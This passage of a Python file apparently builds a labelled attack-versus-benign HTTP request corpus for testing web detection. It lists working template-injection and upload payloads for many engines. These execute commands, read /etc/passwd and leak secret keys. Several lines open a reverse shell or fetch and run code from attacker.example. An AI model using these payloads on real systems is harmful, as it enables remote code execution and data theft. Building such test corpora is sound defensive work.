    P("java-tomcat", "cmd.jspx", "file"),
    P("java-struts", "SHELL.JSP", "file"),
    P("java-tomcat", "avatar.jsp;.png", "file"),  # path parameter trick
    P("java-spring", "../../webapps/ROOT/x.jsp", "file"),
    P("java-tomcat", "header.jspf", "file"),
    P("dotnet-iis", "x.jsp.", "file"),  # trailing dot on Windows
    P("java-tomcat", "x.jsp::$DATA", "file"),
    P("java-weblogic", "x.jsp ", "file"),
    P("java-struts", "avatar.png.jsp", "file"),
    P("java-tomcat", "upload.jsp/", "file", real="path"),  # CVE-2017-12615 PUT
    P("java-jboss", "index.JSPX", "file"),
]

# --------------------------------------------------------------------------------------------------- ssti
HBS_RCE = ("{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push "
           "(lookup string.sub \"constructor\")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}"
           "{{this.push \"return require('child_process').execSync('id');\"}}{{this.pop}}{{#each conslist}}"
           "{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}")
SSTI: dict[str, list[P]] = {
    "jinja2": [
        P("python-flask", "{{7*7}}"),  # render_template_string probe
        P("python-flask", "{{config.items()}}"),
        P("python-flask", "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
        P("python-flask", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
        P("python-flask", "{{ request.application.__globals__.__builtins__.__import__('os').popen('id').read() }}"),
        P("python-flask", "{{ cycler.__init__.__globals__.os.popen('id').read() }}"),
        P("python-django", "{{ lipsum.__globals__['os'].popen('id').read() }}"),  # Django with Jinja2 backend
        P("python-flask", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}"
                          "{{ c()._module.__builtins__['__import__']('os').popen('id').read() }}{% endif %}"
                          "{% endfor %}"),
        P("python-flask", "{{ request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f') }}"),
        P("python-flask", "{{ url_for.__globals__['current_app'].config['SECRET_KEY'] }}"),
        P("python-flask", "{{ get_flashed_messages.__globals__.__builtins__.open('/etc/passwd').read() }}"),
        P("python-flask", "{{ namespace.__init__.__globals__.os.popen('id').read() }}"),
    ],
    "twig": [
        P("php-drupal", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}"),
        P("php-laravel", "{{['id']|filter('system')}}"),
        P("php-drupal", "{{['cat /etc/passwd']|map('system')|join}}"),
        P("php-wordpress", "{{[0]|reduce('system','id')}}"),  # Timber
        P("php-laravel", "{{['id']|sort('passthru')}}"),
        P("php-drupal", "{{ app.request.server.all|join(',') }}"),  # Symfony
        P("php-drupal", "{{ '/etc/passwd'|file_excerpt(1,30) }}"),
        P("php-drupal", "{{_self.env.setCache(\"ftp://attacker.example:2121\")}}{{_self.env.loadTemplate(\"x\")}}"),
        P("php-laravel", "{% set x = ['id']|map('passthru') %}{{ x|join }}"),
        P("php-wordpress", "{{['id']|filter('shell_exec')|first}}"),
        P("php-drupal", "{{app.request.query.filter(0,'id',1024,{'options':'system'})}}"),
        P("php-laravel", "{{['id']|map('exec')|join}}"),
    ],
    "freemarker": [
        P("java-spring", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}"),
        P("java-spring", "${\"freemarker.template.utility.Execute\"?new()(\"id\")}"),
        P("java-tomcat", "<#assign ob=\"freemarker.template.utility.ObjectConstructor\"?new()>"
                         "${ob(\"java.lang.ProcessBuilder\",\"id\").start()}"),
        P("java-spring", "<#assign js=\"freemarker.template.utility.JythonRuntime\"?new()><@js>import os;"
                         "os.system(\"id\")</@js>"),
        P("java-struts", "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI()"
                         ".resolve('/etc/passwd').toURL().openStream().readAllBytes()?join(\" \")}"),
        P("java-spring", "<#assign cl=article.class.protectionDomain.classLoader>${cl}"),
        P("java-spring", "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('id')}"),
        P("java-tomcat", "${object?api.class.getResource(\"/\").path}"),
        P("java-spring", "${.data_model?keys?join(\",\")}"),
        P("java-jenkins", "${\"freemarker.template.utility.Execute\"?new()(\"curl http://attacker.example/x|sh\")}"),
    ],
    "velocity": [
        P("java-tomcat", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))#set($ex=$rt.getRuntime()"
                         ".exec('id'))$ex.waitFor()"),
        P("java-spring", "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\")"),
        P("java-tomcat", "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null)"
                         ".invoke(null,null).exec(\"id\")"),
        P("java-tomcat", "#foreach($i in [1..$out.available()])$str.valueOf($chr.toChars($out.read()))#end"),
        P("java-spring", "$request.getClass().getClassLoader()"),
        P("java-tomcat", "#set($s=$request.getSession())$s.setAttribute(\"role\",\"admin\")"),
        P("java-spring", "#set($p=$x.class.forName(\"java.lang.ProcessBuilder\"))$p"),
        P("java-tomcat", '{"contentId":"786457","macro":{"name":"widget","body":"","params":{"url":"https://www.'
                         'youtube.com/watch?v=x","width":"1","height":"1","_template":"file:///etc/passwd"}}}',
          real="json"),  # Confluence CVE-2019-3396
        P("java-spring", "#set($a=7*7)${a}"),
        P("java-tomcat", "$x.getClass().forName(\"java.lang.System\").getProperty(\"user.dir\")"),
    ],
    "thymeleaf": [
        P("java-spring", "__${T(java.lang.Runtime).getRuntime().exec(\"id\")}__::.x", real="path"),  # view name
        P("java-spring", "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"id\").getInputStream())"
                         ".next()}__::.x"),
        P("java-spring", "[[${T(java.lang.Runtime).getRuntime().exec('id')}]]"),
        P("java-spring", "[(${T(java.lang.System).getenv()})]"),
        P("java-spring", "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id')"
                         ".getInputStream())}"),
        P("java-tomcat", "${#rt = @java.lang.Runtime@getRuntime(),#rt.exec(\"id\")}"),  # Thymeleaf on OGNL
        P("java-spring", "__${T(java.lang.Thread).sleep(10000)}__::.x"),
        P("java-spring", "<p th:text=\"${T(java.lang.Runtime).getRuntime().exec('id')}\"></p>"),
        P("java-spring", "__${''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}__::main.x"),
        P("java-spring", "[[${@environment.getProperty('spring.datasource.url')}]]"),
    ],
    "erb": [
        P("ruby-rails", "<%= 7*7 %>"),  # render inline:
        P("ruby-rails", "<%= `id` %>"),
        P("ruby-rails", "<%= system(\"id\") %>"),
        P("ruby-rails", "<%= IO.popen('id').readlines() %>"),
        P("ruby-rails", "<%= File.open('/etc/passwd').read %>"),
        P("ruby-rails", "<%= Dir.entries('/') %>"),
        P("ruby-rails", "<%= require 'open3'; Open3.capture2('id') %>"),
        P("ruby-rails", "<%= %x(whoami) %>"),
        P("ruby-rails", "<%= ENV['SECRET_KEY_BASE'] %>"),
        P("ruby-rails", "<% exec(\"nc -e /bin/sh 203.0.113.5 4444\") %>"),
        P("ruby-rails", "<%== Rails.application.secrets.secret_key_base %>"),
        P("ruby-rails", "<%= eval(\"Kernel.system('id')\") %>"),
    ],
    "smarty": [
        P("php-wordpress", "{system('id')}"),
        P("php-laravel", "{php}echo `id`;{/php}"),  # Smarty 2
        P("php-drupal", "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\","
                        "self::clearConfig())}"),
        P("php-wordpress", "{$smarty.version}"),
        P("php-laravel", "{if system('id')}{/if}"),
        P("php-drupal", "{passthru(\"cat /etc/passwd\")}"),
        P("php-wordpress", "{fetch file=\"file:///etc/passwd\"}"),
        P("php-laravel", "{function name='x(){};system(\"id\");function '}{/function}"),  # CVE-2021-26120
        P("php-drupal", "{shell_exec('id')}"),
        P("php-wordpress", "{self::getStreamVariable(\"file:///etc/passwd\")}"),
    ],
    "handlebars": [
        P("node-express", HBS_RCE),
        P("node-express", "{{this.constructor.constructor}}"),
        P("node-express", "{{#with this as |o|}}{{o.constructor.constructor \"return process\"}}{{/with}}"),
        P("node-express", "{{lookup (lookup this \"constructor\") \"name\"}}"),
        P("node-express", "{{#each this}}{{@key}}={{this}} {{/each}}"),
        P("node-express", "{{> (lookup . \"partial\")}}"),
        P("node-express", "{{__proto__}}"),
        P("node-express", "{{#with (lookup this \"__proto__\")}}{{this.constructor.name}}{{/with}}"),
        P("node-express", "{{#with \"s\" as |string|}}{{string.sub.constructor \"return process.env\"}}{{/with}}"),
    ],
    "pug": [
        P("node-express", "#{root.process.mainModule.require('child_process').spawnSync('id').stdout}"),
        P("node-express", "- var x = root.process\n- x = x.mainModule.require\n- x('child_process').exec('id')"),
        P("node-express", "#{function(){localLoad=global.process.mainModule.constructor._load;"
                          "sh=localLoad('child_process').exec('id')}()}"),
        P("node-express", "p= global.process.mainModule.require('child_process').execSync('id')"),
        P("node-express", "#{7*7}"),
        P("node-express", "!{JSON.stringify(process.env)}"),
        P("node-express", "- global.process.mainModule.require('child_process').execSync('touch /tmp/x')"),
        P("node-express", "p #{global.process.mainModule.require('fs').readFileSync('/etc/passwd')}"),
        P("node-express", "include /etc/passwd"),
    ],
    "mako": [
        P("python-flask", "<% import os; x=os.popen('id').read() %>${x}"),  # Pyramid / Pylons
        P("python-flask", "${self.module.cache.util.os.system(\"id\")}"),
        P("python-django", "${__import__('os').popen('id').read()}"),
        P("python-flask", "<%! import subprocess %>${subprocess.check_output(['id'])}"),
        P("python-flask", "${self.module.runtime.util.os.system('id')}"),
        P("python-flask", "<%namespace name=\"x\" module=\"os\"/>${x.system('id')}"),
        P("python-flask", "${context.kwargs}"),
        P("python-flask", "<% __import__('os').system('id') %>"),
    ],
    "tornado": [
        P("python-flask", "{% import os %}{{ os.popen(\"id\").read() }}"),
        P("python-flask", "{{ handler.settings }}"),
        P("python-flask", "{% raw __import__('os').system('id') %}"),
        P("python-flask", "{{ __import__('subprocess').check_output('id') }}"),
        P("python-flask", "{{ handler.application.settings['cookie_secret'] }}"),
        P("python-flask", "{% apply __import__('os').system %}id{% end %}"),
        P("python-flask", "{{ handler.request.headers }}"),
        P("python-flask", "{% from os import popen %}{{ popen('id').read() }}"),
    ],
    "nunjucks": [
        P("node-express", "{{range.constructor(\"return global.process.mainModule.require('child_process')"
                          ".execSync('id')\")()}}"),
        P("node-express", "{{ joiner.constructor(\"return process.env\")() }}"),
        P("node-express", "{{ cycler.constructor(\"return require('fs').readFileSync('/etc/passwd')\")() }}"),
        P("node-express", "{{''.constructor.constructor('return process')().mainModule.require('child_process')"
                          ".execSync('id')}}"),
        P("node-express", "{{ range.constructor('return process.exit()')() }}"),
        P("node-express", "{% set x = range.constructor('return process')() %}{{ x.env }}"),
        P("node-express", "{{7*7}}{{ dump(self) }}"),
        P("node-express", "{{ lipsum.constructor('return process.pid')() }}"),
    ],
    "ejs": [
        P("node-express", "<%= process.mainModule.require('child_process').execSync('id') %>"),
        P("node-express", "<%- global.process.mainModule.require('fs').readFileSync('/etc/passwd') %>"),
        P("node-express", "settings[view options][outputFunctionName]=x;process.mainModule.require("
                          "'child_process').execSync('id');s", "qs"),  # CVE-2022-29078
        P("node-express", "settings[view options][escapeFunction]=1;return global.process.mainModule."
                          "constructor._load('child_process').execSync('id')&settings[view options][client]=true",
          "qs"),
        P("node-express", "<% require('child_process').exec('id') %>"),
        P("node-express", "<%= global.process.env.DB_URL %>"),
        P("node-express", "<%- include('/etc/passwd') %>"),
        P("node-express", "<%= this.constructor.constructor('return process')().mainModule.require('child_process')"
                          ".execSync('id') %>"),
    ],
    "go-template": [
        P("go", "{{.}}"),  # html/template with the handler struct as data
        P("go", "{{ .Env }}"),
        P("go", "{{ printf \"%s\" .Secret }}"),
        P("go", "{{define \"T1\"}}<script>alert(1)</script>{{end}}{{template \"T1\"}}"),
        P("go", "{{ .Request.Header }}"),
        P("go", "{{ call .Exec \"id\" }}"),
        P("go", "{{ os.ReadFile \"/etc/passwd\" }}"),  # Hugo
        P("go", "{{ index .Config \"database_dsn\" }}"),
        P("go", "{{ range $k, $v := .Config }}{{$k}}={{$v}} {{end}}"),
    ],
    "razor": [
        P("dotnet-iis", "@(1+2)"),  # RazorEngine compiling user templates
        P("dotnet-iis", "@System.Diagnostics.Process.Start(\"cmd.exe\",\"/c whoami\")"),
        P("dotnet-iis", "@{ var p = new System.Diagnostics.Process(); p.StartInfo.FileName = \"cmd.exe\"; "
                        "p.Start(); }"),
        P("dotnet-iis", "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")"),
        P("dotnet-iis", "@Environment.GetEnvironmentVariable(\"PATH\")"),
        P("dotnet-iis", "@(System.Diagnostics.Process.Start(\"powershell\",\"-c iwr http://attacker.example\"))"),
        P("dotnet-iis", "@{System.IO.File.WriteAllText(@\"C:\\inetpub\\wwwroot\\x.aspx\",\"x\");}"),
        P("dotnet-iis", "@System.AppDomain.CurrentDomain.GetAssemblies()"),
    ],
    "groovy": [
        P("java-jenkins", "${\"id\".execute().text}"),  # GString template / Grails GSP
        P("java-jenkins", "<% out << \"id\".execute().text %>"),
        P("java-jenkins", "${new File('/etc/passwd').text}"),
        P("java-spring", "${Runtime.getRuntime().exec('id')}"),
        P("java-jenkins", "${['bash','-c','id'].execute().text}"),
        P("java-jenkins", "<%= this.class.classLoader.parseClass('x').newInstance() %>"),
        P("java-jenkins", "${Eval.me('1+1')}"),
        P("java-jenkins", "${System.getenv()}"),
        P("java-jenkins", "@groovy.transform.ASTTest(value={assert java.lang.Runtime.getRuntime().exec(\"id\")})"
                          "def x"),
    ],
    "jakarta-el": [
        P("java-tomcat", "${pageContext.request.serverName}"),  # JSP EL echo
        P("java-tomcat", "#{facesContext.externalContext.request}"),  # JSF
        P("java-tomcat", "${applicationScope}"),
        P("java-tomcat", "${\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"exec\",\"\".getClass())"
                         ".invoke(\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\")"
                         ".invoke(null),\"id\")}"),
        P("java-jboss", "#{request.getClass().getClassLoader()}"),
        P("java-tomcat", "${sessionScope}"),
        P("java-tomcat", "${header['host']}${cookie}"),
        P("java-jboss", "#{''.class.forName('javax.script.ScriptEngineManager').newInstance()"
                        ".getEngineByName('js').eval('1')}"),
        P("java-tomcat", "${initParam}"),
    ],
    "django": [
        P("python-django", "{{ settings.SECRET_KEY }}"),  # str.format / Template() on user text
        P("python-django", "{% debug %}"),
        P("python-django", "{% load log %}{% get_admin_log 10 as log %}{% for e in log %}{{ e.user.get_username }}"
                           "{% endfor %}"),
        P("python-django", "{{ request.user.password }}"),
        P("python-django", "{user.__init__.__globals__[settings].SECRET_KEY}"),  # str.format injection
        P("python-django", "{{ messages.storages.0.signer.key }}"),
        P("python-django", "{% include '/etc/passwd' %}"),
        P("python-django", "{{ request.META }}"),
    ],
}

SUBS: list[tuple[str, str, list[P]]] = [
    ("generic", "nodejs-injection", NODEJS),
    ("generic", "nodejs-injection-2", NODEJS_2),
    ("generic", "ssrf-cloud-metadata", SSRF_META),
    ("generic", "ssrf-ip-address", SSRF_IP),
    ("generic", "prototype-pollution", PP),
    ("generic", "ruby-injection", RUBY),
    ("generic", "perl-injection", PERL),
    ("generic", "nodejs-dos", NODE_DOS),
    ("generic", "php-data-scheme", DATA_SCHEME),
    ("java", "java-class-rce", CLASS_RCE),
    ("java", "java-process-spawn", SPAWN),
    ("java", "java-serialization-rce", SER_RCE),
    ("java", "java-suspicious-class", SUSPICIOUS_CLASS),
    ("java", "java-magic-bytes", MAGIC),
    ("java", "java-magic-bytes-base64", MAGIC_B64),
    ("java", "java-serialization-gadget", SER_GADGET),
    ("java", "java-suspicious-method", JAVA_METHOD),
    ("java", "log4shell", LOG4J),
    ("java", "java-class-loading", CLASS_LOADING),
    ("java", "java-script-upload", UPLOAD),
] + [("ssti", "ssti-" + engine, items) for engine, items in SSTI.items()]

# ------------------------------------------------------------------------------------------------ placing
REAL = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Api-Version",
        "param-name", "xml", "multipart-field", "multipart-filename", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom", "rs-cookie"]
KIND_REAL = {"qs": ["param-name", "form", "multipart-field"], "bin": ["query", "form"],
             "file": ["multipart-filename"], "doc": ["json", "query", "json", "form", "multipart-field"]}
KIND_RS = {"qs": ["rs-query", "rs-form", "rs-raw-body"], "bin": ["rs-query", "rs-form", "rs-raw-body"],
           "file": ["rs-multipart-filename", "rs-header:X-File-Name", "rs-query"],
           "doc": ["rs-json", "rs-query", "rs-json", "rs-form"]}
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
RS_PATHS = ["/", "/get", "/post", "/search", "/api/v1/items"]
REAL_NAMES = ["q", "name", "search", "title", "comment", "sort", "filter", "template"]
COOKIES = {  # each stack's session cookie and the cookie the payload rides in
    "php-wordpress": ("wordpress_test_cookie=WP%20Cookie%20check; wp-settings-time-1=1719000000", "wp-settings-1"),
    "php-laravel": ("laravel_session=eyJpdiI6IjEyMyJ9", "remember_web"),
    "php-drupal": ("SESSd41d8cd98f00b204e9800998ecf8=k3mQ", "Drupal.visitor.name"),
    "java": ("JSESSIONID=0A1B2C3D4E5F60718293A4B5C6D7E8F9", "rememberMe"),
    "dotnet": ("ASP.NET_SessionId=qx1b2c3d4e5f6g7h8i9j0k1l", "Preferences"),
    "node": ("connect.sid=s%3AaBcD.eFgH", "profile"),
    "python-django": ("csrftoken=Zx9Yw8Vu7Ts6; sessionid=q1w2e3r4", "django_language"),
    "python-flask": ("session=eyJ1c2VyIjoiYSJ9.ZnQ.abc", "prefs"),
    "ruby": ("_myapp_session=YWJj--ZGVm", "remember_user_token"),
    "go": ("gsid=7f3a9c", "pref"),
    "cgi": ("CGISESSID=2d1f8e", "lang"),
}
U_CHARS = set("<>'\"();{}$`|&")
COOKIE_SAFE = "!#$&'()*+-./:<>?@[]^_`{|}~"


def _lang(stack: str) -> str:
    return stack.split("-")[0]


def _cookie_of(stack: str) -> tuple[str, str]:
    return COOKIES.get(stack) or COOKIES[_lang(stack)]


def _printable(p: str) -> bool:
    return all(32 <= ord(c) < 127 for c in p)


def _enc(p: P | str, value: str | None = None, dotnet: bool = False) -> str:
    """A value percent-encoded for a query or form (raw bytes for kind "bin"; %u for ASP.NET's specials)."""
    if isinstance(p, P):
        if p.kind == "bin":
            return urllib.parse.quote(p.payload.encode("latin-1"), safe="")
        value = p.payload
    assert value is not None
    if dotnet:
        return "".join(f"%u{ord(c):04x}" if c in U_CHARS else urllib.parse.quote(c, safe="") for c in value)
    return urllib.parse.quote(value, safe="")


def _pairs(stack: str, base: str, value: str) -> list[tuple[str, str]]:
    """The parameter(s) a stack's own forms would carry `value` in, named after `base`."""
    lang = _lang(stack)
    if lang == "php":
        return [[(base, value)], [(base + "[]", "1"), (base + "[]", value)], [(f"filter[{base}]", value)]][
            len(base) % 3]
    if lang == "node":
        return [(f"filter[where][{base}]", value)]
    if lang == "ruby":
        return [(f"user[{base}]", value)]
    if stack == "python-django":
        return [(base, "news"), (base, value)]   # a multi-valued field (getlist)
    if lang == "dotnet":
        return [(f"ctl00$MainContent${base}", value)]
    return [(base, value)]


def _uri_qs(fragment: str) -> str:
    """A raw name=value fragment made fit for a request line (spaces and other unsafe characters encoded)."""
    return urllib.parse.quote(fragment, safe="=&[]'();,/:!$*+@.%{}")


def _kind(p: P) -> str:
    """The payload's kind; a whole JSON document ("doc") travels as a body or a JSON-valued parameter."""
    return p.kind or ("doc" if _is_doc(p.payload, "{") else "")


def _qs(stack: str, base: str, p: P) -> str:
    if _kind(p) == "doc":   # LoopBack-style ?filter={...}, Fastjson-parsed ?data={...}
        return ("filter" if _lang(stack) == "node" else "data") + "=" + _enc(p)
    dotnet = _lang(stack) == "dotnet"
    out = []
    for name, value in _pairs(stack, base, p.payload):
        enc = _enc(p) if value == p.payload else urllib.parse.quote(value, safe="")
        if dotnet and p.kind != "bin" and value == p.payload:
            enc = _enc(value, value, dotnet=True)
        out.append(urllib.parse.quote(name, safe="[]$") + "=" + enc)
    return "&".join(out)


def _doc(stack: str, base: str, value: str) -> dict[str, Any]:
    lang = _lang(stack)
    if lang == "node":
        return {"filter": {"where": {base: value}}, "limit": 10}
    if lang == "php":
        return {"data": {"type": "posts", "attributes": {base: value}}}
    if lang == "ruby":
        return {"user": {base: value}}
    if stack == "python-django":
        return {base: ["news", value]}
    if lang == "dotnet":
        return {"Model": {base: value}}
    return {base: value, "page": 1}


def _is_doc(payload: str, opener: str) -> bool:
    s = payload.strip()
    if opener == "<":
        return s.startswith("<") and s.endswith(">") and ("</" in s or "/>" in s) and not s.startswith("<%")
    try:
        return isinstance(json.loads(s), (dict, list))
    except ValueError:
        return False


def _xml_escape(s: str) -> str:
    return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


def _xml(stack: str, base: str, value: str) -> str:
    v = _xml_escape(value)
    lang = _lang(stack)
    if lang == "php":   # WordPress XML-RPC
        return ("<?xml version=\"1.0\"?><methodCall><methodName>wp.getUsersBlogs</methodName><params><param>"
                f"<value><string>{v}</string></value></param></params></methodCall>")
    if lang == "dotnet":
        return ("<Customer xmlns=\"http://schemas.datacontract.org/2004/07/Shop.Models\">"
                f"<Name>{v}</Name></Customer>")
    if lang == "java":
        return f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><order><id>1</id><{base}>{v}</{base}></order>"
    return f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><user><{base}>{v}</{base}><email>a@example.org</email></user>"


def _headers(extra: dict[str, str] | None = None, ctype: str | None = None) -> dict[str, str]:
    h = {"User-Agent": UA, "Accept": "*/*"}
    if ctype:
        h["Content-Type"] = ctype
    h.update(extra or {})
    return h


def _req(method: str, uri: str, body: str = "", headers: dict[str, str] | None = None) -> dict[str, Any]:
    return {"method": method, "uri": uri, "body": body, "headers": headers or _headers()}


def _header_value(name: str, p: P) -> str:
    if name == "Referer" and not p.payload.startswith(("http://", "https://")):
        return "https://www.example.org/search?q=" + urllib.parse.quote(p.payload, safe="")
    if name == "Referer" or _printable(p.payload):
        return p.payload if _printable(p.payload) else urllib.parse.quote(p.payload, safe=":/?=&")
    return urllib.parse.quote(p.payload, safe=COOKIE_SAFE)


def _multipart(fields: list[tuple[str, str]], file: tuple[str, str, str] | None = None) -> tuple[str, str]:
    boundary = "----WebKitFormBoundary7MA4YWxkTrZu0gW"
    parts = [f"--{boundary}\r\nContent-Disposition: form-data; name=\"{n}\"\r\n\r\n{v}\r\n" for n, v in fields]
    if file:
        field, fname, content = file
        fname = fname.replace("\"", "%22")
        parts.append(f"--{boundary}\r\nContent-Disposition: form-data; name=\"{field}\"; filename=\"{fname}\"\r\n"
                     f"Content-Type: application/octet-stream\r\n\r\n{content}\r\n")
    return "".join(parts) + f"--{boundary}--\r\n", f"multipart/form-data; boundary={boundary}"


JSP_PROBE = "<%@ page import=\"java.util.*\" %><%= new Date() %> ok"


def _real(place: str, p: P, base: str) -> dict[str, Any]:
    stack, v = p.stack, p.payload
    lang = _lang(stack)
    if p.kind == "qs":
        if place == "param-name":
            return _req("GET", "/api/users?" + _uri_qs(v) + "&page=1")
        if place == "form":
            return _req("POST", "/admin/users/search", "csrf_token=t0k3n&" + v,
                        _headers(ctype="application/x-www-form-urlencoded"))
        name, _, value = v.partition("=")
        body, ctype = _multipart([("csrf_token", "t0k3n"), (urllib.parse.unquote(name), urllib.parse.unquote(value))])
        return _req("POST", "/admin/users/import", body, _headers(ctype=ctype))
    if p.kind == "file":
        if place == "path":
            return _req("PUT", "/api/users/" + urllib.parse.quote(v, safe="/;"), JSP_PROBE,
                        _headers(ctype="application/octet-stream"))
        body, ctype = _multipart([("csrf_token", "t0k3n")], ("avatar", v, JSP_PROBE))
        return _req("POST", "/admin/users/import", body, _headers(ctype=ctype))
    if place == "query":
        path = "/api/users;jsessionid=0A1B2C3D4E5F" if stack == "java-spring" else "/api/users"
        return _req("GET", path + "?" + _qs(stack, base, p) + "&page=1")
    if place == "form":
        pre = "csrf_token=t0k3n&"
        if lang == "dotnet":
            pre += "__VIEWSTATE=%2FwEPDwUKMTY3NzY0NjkxOWRk&__EVENTVALIDATION=%2FwEWAgLr5%2BXfAQ&"
        if stack == "java-tomcat" and p is MAGIC_B64[0]:
            return _req("POST", "/admin/users/search", pre + "javax.faces.ViewState=" + _enc(p),
                        _headers(ctype="application/x-www-form-urlencoded"))
        return _req("POST", "/admin/users/search", pre + _qs(stack, base, p),
                    _headers(ctype="application/x-www-form-urlencoded"))
    if place == "json":
        if _is_doc(v, "{"):
            return _req("POST", "/api/users", v, _headers(ctype="application/json"))
        doc = {"email": "a@example.org", **_doc(stack, base, v)}
        return _req("POST", "/api/users", json.dumps(doc), _headers(ctype="application/json"))
    if place == "cookie":
        session, name = _cookie_of(stack)
        return _req("GET", "/api/users?page=1",
                    headers=_headers({"Cookie": f"{session}; {name}={urllib.parse.quote(v, safe=COOKIE_SAFE)}"}))
    if place.startswith("header:"):
        hname = place.split(":", 1)[1]
        if hname == "Content-Type":   # Struts Jakarta multipart parser (S2-045)
            return _req("POST", "/api/users", "x", _headers({"Content-Type": v + ".multipart/form-data"}))
        return _req("GET", "/api/users?page=1", headers=_headers({hname: _header_value(hname, p)}))
    if place == "param-name":
        return _req("GET", "/api/users?" + urllib.parse.quote(v, safe="[]") + "=1&page=1")
    if place == "xml":
        if v.startswith("---"):   # Rails XML params with type="yaml" (CVE-2013-0156)
            body = f"<?xml version=\"1.0\" encoding=\"UTF-8\"?><user><name type=\"yaml\">{_xml_escape(v)}</name></user>"
        else:
            body = v if _is_doc(v, "<") else _xml(stack, base, v)
        return _req("POST", "/api/users", body, _headers(ctype="application/xml"))
    if place == "multipart-field":
        body, ctype = _multipart([("csrf_token", "t0k3n"), ("data" if _kind(p) == "doc" else base, v)])
        return _req("POST", "/admin/users/import", body, _headers(ctype=ctype))
    if place == "multipart-filename":
        body, ctype = _multipart([("csrf_token", "t0k3n")], ("attachment", v, "name,email\nann,a@example.org\n"))
        return _req("POST", "/admin/users/import", body, _headers(ctype=ctype))
    assert place == "path", place
    if _lang(stack) == "java" and "__" not in v:
        return _req("GET", "/api/users;filter=" + _enc(p) + "/42")    # Spring matrix variable
    return _req("GET", "/api/users/" + _enc(p, dotnet=lang == "dotnet"))


def _rs_path(stack: str, i: int) -> str:
    lang = _lang(stack)
    if lang == "php":
        return "/index.php"
    if lang == "cgi":
        return "/cgi-bin/test.cgi"
    return RS_PATHS[i % len(RS_PATHS)]


def _rs(place: str, p: P, name: str, i: int) -> dict[str, Any]:
    stack, v = p.stack, p.payload
    path = _rs_path(stack, i)
    form = "application/x-www-form-urlencoded"
    if p.kind == "qs":
        if place == "rs-query":
            return _req("GET", path + "?" + _uri_qs(v))
        return _req("POST", path, v, _headers(ctype=form))
    if p.kind == "file":
        if place == "rs-multipart-filename":
            body, ctype = _multipart([], ("file", v, JSP_PROBE))
            return _req("POST", path, body, _headers(ctype=ctype))
        if place == "rs-header:X-File-Name":
            return _req("POST", path, JSP_PROBE, _headers({"X-File-Name": v}, "application/octet-stream"))
        return _req("POST", path + "?filename=" + _enc(p), JSP_PROBE, _headers(ctype="application/octet-stream"))
    if place == "rs-query":
        return _req("GET", path + "?" + _qs(stack, name, p))
    if place == "rs-form":
        return _req("POST", path, _qs(stack, name, p), _headers(ctype=form))
    if place == "rs-raw-body":
        body = _enc(p) if p.kind == "bin" else v
        return _req("POST", path, body, _headers(ctype=form))
    if place == "rs-json":
        body = v if _is_doc(v, "{") else json.dumps({name: v})
        return _req("POST", path, body, _headers(ctype="application/json"))
    if place == "rs-xml":
        body = v if _is_doc(v, "<") else f"<?xml version=\"1.0\"?><root><{name}>{_xml_escape(v)}</{name}></root>"
        return _req("POST", path, body, _headers(ctype="application/xml"))
    if place == "rs-cookie":
        return _req("GET", path, headers=_headers({"Cookie": f"{name}={urllib.parse.quote(v, safe=COOKIE_SAFE)}"}))
    hname = place.split(":", 1)[1]
    return _req("GET", path, headers=_headers({hname: _header_value(hname, p)}))


def _eligible(place: str, p: P) -> bool:
    v = p.payload
    ok_plain = _printable(v)
    if place.endswith(("header:User-Agent", "header:X-Api-Version", "header:X-Custom", "multipart-filename")):
        return ok_plain and len(v) <= 400
    if place in ("cookie", "rs-cookie", "header:Referer", "rs-header:Referer", "path", "param-name"):
        return "\n" not in v and len(v) <= 400
    if place in ("xml", "rs-xml") and v.startswith("---"):
        return place == "xml"
    return True


def _choose(explicit: str, pool: list[str], start: int, p: P) -> str:
    if explicit:
        return explicit
    for k in range(len(pool)):
        place = pool[(start + k) % len(pool)]
        if _eligible(place, p):
            return place
    raise ValueError(p)


def attacks() -> Iterator[dict[str, Any]]:
    n = 0
    turn = 0
    for s, (category, sub, items) in enumerate(SUBS):
        for i, p in enumerate(items):
            turn += 1
            real = _choose(p.real, KIND_REAL.get(_kind(p), REAL), turn + s, p)
            rs = _choose(p.rs, KIND_RS.get(_kind(p), RS), turn * 2 + s, p)
            base = REAL_NAMES[(turn + i) % len(REAL_NAMES)]
            name = RS_NAMES[(turn + s) % len(RS_NAMES)]
            for placement, rec in ((real, _real(real, p, base)), (rs, _rs(rs, p, name, turn))):
                n += 1
                yield {**rec, "id": f"{NAME}-{category}-{n:04d}", "category": category, "sub": sub,
                       "placement": placement, "payload": p.payload}


# ------------------------------------------------------------------------------------------------- benign
CHAT = [
    # Java / JVM shop talk
    "the importer still shells out with ProcessBuilder, can we move it to the Java API instead?",
